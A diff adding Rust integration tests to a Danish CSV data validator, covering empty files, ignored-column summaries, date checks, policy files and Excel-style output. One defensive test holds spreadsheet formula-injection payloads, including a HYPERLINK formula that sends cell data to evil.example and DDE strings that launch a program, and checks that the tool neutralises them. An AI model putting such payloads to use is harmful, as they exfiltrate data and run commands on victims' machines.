@@ -155,11 +155,18 @@ fn valid_rows_exit_0_with_no_problems_and_a_summary() {
 }
 
 #[test]
-fn a_header_without_rows_is_valid() {
-    let path = file("header-only.csv", format!("{REQUEST_HEADER}\n"));
-    let run = validate("request", &["--format", "json"], &path);
-    assert_eq!(run.code, 0, "{run:?}");
-    assert_eq!(run.problems(), Vec::<Value>::new());
+fn a_header_without_rows_is_an_input_error_like_an_empty_json_lines_file() {
+    for path in [
+        file("header-only.csv", format!("{REQUEST_HEADER}\n")),
+        file("blank.jsonl", "\n \n"),
+    ] {
+        let run = validate("request", &["--format", "json"], &path);
+        assert_eq!(run.code, 2, "{run:?}");
+        assert_eq!(run.problems(), Vec::<Value>::new());
+        assert_eq!(run.json()["error"]["type"], "file_no_rows", "{run:?}");
+        assert_eq!(run.json()["summary"]["rows"], 0, "{run:?}");
+        assert!(run.stderr.contains("[file_no_rows]"), "{run:?}");
+    }
 }
 
 #[test]
@@ -253,6 +260,35 @@ fn unknown_columns_are_ignored() {
     let run = validate("request", &["--format", "json"], &path);
     assert_eq!(run.code, 0, "{run:?}");
     assert_eq!(run.problems(), Vec::<Value>::new());
+}
+
+#[test]
+fn the_text_summary_counts_the_unknown_columns_it_does_not_list() {
+    let extra: Vec<String> = (0..150).map(|i| format!("x{i}")).collect();
+    let path = file(
+        "many-extra-columns.csv",
+        format!(
+            "{REQUEST_HEADER},{}\n{VALID_REQUEST}{}\n",
+            extra.join(","),
+            ",".repeat(extra.len())
+        ),
+    );
+    let run = validate("request", &["--lang", "en"], &path);
+    assert_eq!(run.code, 0, "{run:?}");
+    let ignored = run
+        .stdout
+        .lines()
+        .find(|l| l.starts_with("Ignored columns: "))
+        .unwrap_or_else(|| panic!("{run:?}"));
+    assert!(
+        ignored.starts_with("Ignored columns: x0, x1, "),
+        "{ignored}"
+    );
+    assert!(ignored.ends_with(", x99, and 50 more"), "{ignored}");
+    let json = validate("request", &["--format", "json"], &path).json();
+    assert_eq!(json["summary"]["unknown_columns_omitted"], 50);
+    let danish = validate("request", &[], &path);
+    assert!(danish.stdout.contains(", x99, og 50 flere\n"), "{danish:?}");
 }
 
 #[test]
@@ -760,11 +796,44 @@ fn a_valid_user_file_exits_0() {
         "users-valid.csv",
         "cpr,alias,fornavn,efternavn,rolle,klassetrin,instnr\n\
          150320-4120,,Freja,Prøvesen,elev,0,G18062\n\
-         ,nab-0042,Navne,Beskyttet,forælder,,G18062\n",
+         090387-4318,Er.Navne.Beskyttet,Karen,Fiktivsen,forælder,,G18062\n",
     );
     let run = validate("user", &["--format", "json"], &path);
     assert_eq!(run.code, 0, "{run:?}");
     assert_eq!(run.problems(), Vec::<Value>::new());
+}
+
+#[test]
+fn as_of_checks_user_rows_against_a_reference_date() {
+    // Issue 13 item 11: a pupil born in 2037 and a three-year-old in grade 9.
+    let path = file(
+        "users-dates.csv",
+        "cpr,fornavn,efternavn,rolle,klassetrin,instnr\n\
+         150337-5120,Freja,Prøvesen,elev,5,G18062\n\
+         150323-4120,Bo,Prøvesen,elev,9,G18062\n\
+         150320-4120,Ida,Prøvesen,elev,0,G18062\n",
+    );
+    let without = validate("user", &["--format", "json"], &path);
+    assert_eq!(without.code, 0, "{without:?}");
+    let with = validate(
+        "user",
+        &["--format", "json", "--as-of", "2026-08-15"],
+        &path,
+    );
+    assert_eq!(with.code, 1, "{with:?}");
+    let expected = [
+        (json!([0, "cpr"]), "cpr_date_in_future".to_owned()),
+        (json!([1, "grade"]), "age_outside_grade_band".to_owned()),
+    ];
+    assert_eq!(with.locs_and_types(), expected);
+    assert_eq!(with.problems()[0]["input"], "150337-****");
+    assert_eq!(with.problems()[1]["ctx"]["age"], 3);
+    // `today` (the system's date) is accepted; what it finds depends on the day.
+    let today = validate("user", &["--format", "json", "--as-of", "today"], &path);
+    assert_ne!(today.code, 2, "{today:?}");
+    let bad = validate("user", &["--as-of", "15.08.2026"], &path);
+    assert_eq!(bad.code, 2, "{bad:?}");
+    assert!(bad.stderr.contains("YYYY-MM-DD"), "{bad:?}");
 }
 
 #[test]
@@ -833,6 +902,72 @@ fn a_windows_1252_semicolon_export_reads_correctly_with_a_summary() {
 }
 
 #[test]
+fn a_policy_file_overrides_the_rules_of_medium_or_low_confidence() {
+    let csv = file(
+        "dagpleje-request.csv",
+        format!(
+            "{REQUEST_HEADER}\n{}\n",
+            VALID_REQUEST.replace(",6012", ",6013")
+        ),
+    );
+    let strict = validate("request", &["--format", "json"], &csv);
+    assert_eq!(strict.code, 1, "{strict:?}");
+    assert_eq!(
+        strict.json()["problems"][0]["type"],
+        "institution_type_not_accepted"
+    );
+    let policy = file(
+        "dagpleje-policy.json",
+        r#"{"request_institution_types": [6010, 6011, 6012, 6013]}"#,
+    );
+    let policy = policy.to_str().unwrap();
+    let host = validate("request", &["--policy", policy], &csv);
+    assert_eq!(host.code, 0, "{host:?}");
+    // A policy with a typo is an input error, naming the field.
+    let typo = file(
+        "typo-policy.json",
+        r#"{"request_institution_type": [6013]}"#,
+    );
+    let run = validate(
+        "request",
+        &["--policy", typo.to_str().unwrap(), "--lang", "en"],
+        &csv,
+    );
+    assert_eq!(run.code, 2, "{run:?}");
+    assert!(run.stderr.contains("request_institution_type"), "{run:?}");
+    assert!(run.stderr.contains("[json_invalid]"), "{run:?}");
+}
+
+#[test]
+fn request_files_with_the_guides_labels_or_the_registers_names_are_read() {
+    // Until issue 13 both were refused with csv_no_known_column.
+    let guide = file(
+        "guide-labels.csv",
+        "CVR-nummer;P-nummer;Institutionens navn;Vejnavn;Husnummer;Postnummer;By;Kommunenavn;\
+         Email-adresse;Telefonnummer;Lovgrundlag;Institutionstype;CVR-nr.\n\
+         13585628;1029829825;Børnehuset Mælkebøtten;Nørregade;12B;1165;København K;København;\
+         kontakt@maelkeboetten.dk;+45 33 66 33 66;stk. 5;6012;\n",
+    );
+    let run = validate("request", &["--format", "json", "--lang", "en"], &guide);
+    assert_eq!(run.code, 0, "{run:?}");
+    let json = run.json();
+    assert_eq!(json["summary"]["rows"], 1);
+    assert_eq!(
+        json["summary"]["unknown_columns"][0]["suggestion"], "cvr",
+        "{json}"
+    );
+    let register = file(
+        "register-names.csv",
+        "cvrNummer,pNummer,dagtilbudsNavn,vejNavn,husNummer,postNummer,byNavn,\
+                 kommuneKode_Tekst,email,telefonNummer,lovgrundlag,institutionstype\n\
+                 13585628,1029829825,Vuggestuen Solsikken,Skolevej,4,9600,Aars,Vesthimmerland,\
+                 kontakt@solsikken.dk,98 62 12 34,stk. 5,6010\n",
+    );
+    let run = validate("request", &[], &register);
+    assert_eq!(run.code, 0, "{run:?}");
+}
+
+#[test]
 fn jsonl_output_has_one_problem_per_line_and_the_summary_last() {
     let run = validate(
         "register",
@@ -884,6 +1019,73 @@ fn csv_output_is_pure_csv_and_the_summary_goes_to_stderr() {
             .ends_with("13 rows read, 5 rows with problems, 5 problems\n"),
         "{run:?}"
     );
+}
+
+#[test]
+fn excel_csv_is_the_same_table_with_semicolons_a_bom_and_crlf() {
+    let path = Path::new(&example("register.csv")).to_owned();
+    let plain = validate("register", &["--format", "csv", "--lang", "en"], &path);
+    let excel = validate(
+        "register",
+        &["--format", "excel-csv", "--lang", "en"],
+        &path,
+    );
+    assert_eq!(excel.code, 1, "{excel:?}");
+    assert_eq!(excel.stderr, plain.stderr);
+    let body = excel
+        .stdout
+        .strip_prefix('\u{feff}')
+        .expect("a byte-order mark first");
+    assert!(
+        body.starts_with("row;line;field;type;message;input\r\n"),
+        "{body}"
+    );
+    assert!(body.ends_with("\r\n"));
+    assert_eq!(body.matches('\n').count(), body.matches("\r\n").count());
+    let records = |text: &str, delimiter: u8| -> Vec<csv::StringRecord> {
+        csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .from_reader(text.as_bytes())
+            .records()
+            .map(Result::unwrap)
+            .collect()
+    };
+    assert_eq!(records(body, b';'), records(&plain.stdout, b','));
+    assert!(!plain.stdout.contains('\r') && !plain.stdout.starts_with('\u{feff}'));
+}
+
+#[test]
+fn csv_cells_that_a_spreadsheet_would_run_read_back_as_text() {
+    let formulas = [
+        "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"klik\")",
+        "@SUM(1+1)*cmd|' /C calc'!A0",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "\t=1+1",
+        "\r=1+1",
+        "=1+2\";=1+2",
+    ];
+    let stdin: String = formulas
+        .iter()
+        .map(|f| json!({ "cvr": f }).to_string() + "\n")
+        .collect();
+    for (format, delimiter) in [("csv", b','), ("excel-csv", b';')] {
+        let run = exec(
+            &["validate", "--kind", "request", "--format", format, "-"],
+            Some(&stdin),
+        );
+        assert_eq!(run.code, 1, "{run:?}");
+        let inputs: Vec<String> = csv::ReaderBuilder::new()
+            .delimiter(delimiter)
+            .from_reader(run.stdout.trim_start_matches('\u{feff}').as_bytes())
+            .records()
+            .map(Result::unwrap)
+            .filter(|r| &r[2] == "cvr")
+            .map(|r| r[5].to_owned())
+            .collect();
+        let expected: Vec<String> = formulas.iter().map(|f| format!("'{f}")).collect();
+        assert_eq!(inputs, expected, "{format}");
+    }
 }
 
 #[test]
